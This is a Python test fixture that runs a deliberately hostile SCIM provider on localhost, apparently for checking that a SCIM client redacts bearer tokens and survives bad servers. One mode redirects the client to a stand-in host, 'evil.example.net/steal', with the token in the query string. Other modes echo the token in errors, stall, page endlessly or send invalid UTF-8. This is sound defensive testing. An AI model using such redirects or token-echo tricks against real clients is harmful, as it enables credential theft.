#!/usr/bin/env python3
"""A hostile SCIM provider: it echoes the bearer token back in every way it can, or misbehaves on the wire.

Usage: hostile-provider.py MODE [CERT KEY]   (prints the port it listens on, then serves until killed)

Every mode answers discovery; what it does with /Users and writes depends on MODE:
  listing-echo    the listing holds the token in attribute values; writes fail with the token in JSON
                  (escaped as \\/), HTML and plain-text bodies
  error-json      listing → 400 with a SCIM error whose detail quotes the Authorization header
  error-html      listing → 403 with an HTML page quoting the header
  redirect-other  listing → 302 to another origin with the token in the query
  redirect-same   listing → 302 to this origin with the token in the query, which answers 404 quoting it
  not-json        listing → 200 with an HTML body quoting the header
  discovery-echo  /ServiceProviderConfig → 401 with the token in the detail and in WWW-Authenticate
  trickle         the listing's headers at once, then its body one byte every half second
  silent          the listing is never answered (the connection stays open)
  endless         the listing pages forever: no totalResults, fresh users on every page
  bad-utf8        the listing holds a string that is not UTF-8
  forbidden       /ServiceProviderConfig → 403 (a token without the scope)
  tls             a well-behaved provider over HTTPS, with the certificate and key given after the mode
"""
import ssl
import time
import json
import sys
import urllib.parse
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MODE = sys.argv[1]

CONFIG = {
    "schemas": ["urn:ietf:params:scim:schemas:core:2.0:ServiceProviderConfig"],
    "patch": {"supported": True}, "bulk": {"supported": False, "maxOperations": 0, "maxPayloadSize": 0},
    "filter": {"supported": True, "maxResults": 1000}, "changePassword": {"supported": False},
    "sort": {"supported": False}, "etag": {"supported": False}, "authenticationSchemes": [],
}
RESOURCE_TYPES = {
    "schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"], "totalResults": 2, "itemsPerPage": 2,
    "startIndex": 1,
    "Resources": [
        {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:ResourceType"], "id": "User", "name": "User",
         "endpoint": "/Users", "schema": "urn:ietf:params:scim:schemas:core:2.0:User"},
        {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:ResourceType"], "id": "Group", "name": "Group",
         "endpoint": "/Groups", "schema": "urn:ietf:params:scim:schemas:core:2.0:Group"},
    ],
}


def listing(resources):
    return {"schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"], "totalResults": len(resources),
            "itemsPerPage": len(resources), "startIndex": 1, "Resources": resources}


class Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *args):
        pass

    def token(self):
        return self.headers.get("Authorization", "").removeprefix("Bearer ")

    def send(self, status, body, content_type="application/scim+json", headers=()):
        data = body if isinstance(body, bytes) else (json.dumps(body) if not isinstance(body, str) else body).encode()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(data)))
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(data)

    def scim_error(self, status, detail, headers=()):
        self.send(status, {"schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"], "status": str(status),
                           "detail": detail}, headers=headers)

    def html(self, status):
        page = f"<html><body><h1>Error</h1><pre>Authorization: Bearer {self.token()}</pre></body></html>"
        self.send(status, page, "text/html")

    def users(self):
        token = self.token()
        return [
            {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "id": "u1", "userName": "echo@example.com",
             "displayName": token, "name": {"givenName": "Bearer " + token, "familyName": "Echo"}, "active": True,
             "meta": {"resourceType": "User", "created": "2026-01-01T00:00:00Z",
                      "lastModified": "2026-01-01T00:00:00Z"}},
            {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "id": "u2", "userName": "stale@example.com",
             "title": urllib.parse.quote(token, safe=""), "active": True},
        ]

    def do_GET(self):
        path = urllib.parse.urlparse(self.path).path
        token = self.token()
        if path.endswith("/ServiceProviderConfig"):
            if MODE == "forbidden":
                return self.scim_error(403, "the token lacks the scim:read scope")
            if MODE == "discovery-echo":
                return self.scim_error(401, f"invalid token {token}",
                                       headers=[("WWW-Authenticate", f'Bearer error="invalid_token" token="{token}"')])
            return self.send(200, CONFIG)
        if path.endswith("/ResourceTypes"):
            return self.send(200, RESOURCE_TYPES)
        if path.endswith("/Groups"):
            return self.send(200, listing([]))
        if path.endswith("/Users2"):
            return self.scim_error(404, f"no such page: {self.path}")
        if "/Users" in path:
            if MODE == "error-json":
                return self.scim_error(400, f"bad request with header Authorization: Bearer {token}")
            if MODE == "error-html":
                return self.html(403)
            if MODE == "redirect-other":
                return self.send(302, b"", headers=[
                    ("Location", "https://evil.example.net/steal?t=" + urllib.parse.quote(token, safe=""))])
            if MODE == "redirect-same":
                return self.send(302, b"", headers=[
                    ("Location", "/v2/Users2?access_token=" + urllib.parse.quote(token, safe=""))])
            if MODE == "not-json":
                return self.html(200)
            if MODE == "trickle":
                body = json.dumps(listing(self.users())).encode()
                self.send_response(200)
                self.send_header("Content-Type", "application/scim+json")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                for byte in body:
                    self.wfile.write(bytes([byte]))
                    self.wfile.flush()
                    time.sleep(0.5)
                return
            if MODE == "silent":
                time.sleep(3600)
                return
            if MODE == "endless":
                query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
                start = int(query.get("startIndex", ["1"])[0])
                count = int(query.get("count", ["100"])[0])
                page = [{"id": f"u{start + i}", "userName": f"user{start + i}@example.com",
                         "displayName": "x" * 100} for i in range(count)]
                return self.send(200, {"schemas": ["urn:ietf:params:scim:api:messages:2.0:ListResponse"],
                                       "itemsPerPage": count, "startIndex": start, "Resources": page})
            if MODE == "bad-utf8":
                body = json.dumps(listing(self.users()[1:])).encode().replace(b"stale@", b"st\xffale@")
                return self.send(200, body)
            if path.rstrip("/").endswith("/Users"):
                query = urllib.parse.parse_qs(urllib.parse.urlparse(self.path).query)
                users = self.users()
                if "filter" in query:
                    wanted = query["filter"][0].split('"')[1].lower() if '"' in query["filter"][0] else ""
                    users = [u for u in users if u["userName"].lower() == wanted]
                return self.send(200, listing(users))
            return self.send(200, self.users()[0])
        return self.scim_error(404, "not found")

    def write(self):
        length = int(self.headers.get("Content-Length") or 0)
        self.rfile.read(length)
        token = self.token()
        if self.command == "POST":
            return self.html(400)
        # JSON with the token escaped as JSON may escape it (\/), and the raw header.
        detail = json.dumps({"echo": f"Authorization: Bearer {token}"})
        body = '{"schemas": ["urn:ietf:params:scim:api:messages:2.0:Error"], "status": "400", "detail": ' \
            + json.dumps(detail).replace("/", "\\/") + "}"
        return self.send(400, body)

    do_POST = write
    do_PUT = write
    do_PATCH = write
    do_DELETE = write


server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
if MODE == "tls":
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(sys.argv[2], sys.argv[3])
    server.socket = context.wrap_socket(server.socket, server_side=True)
print(server.server_address[1], flush=True)
server.serve_forever()
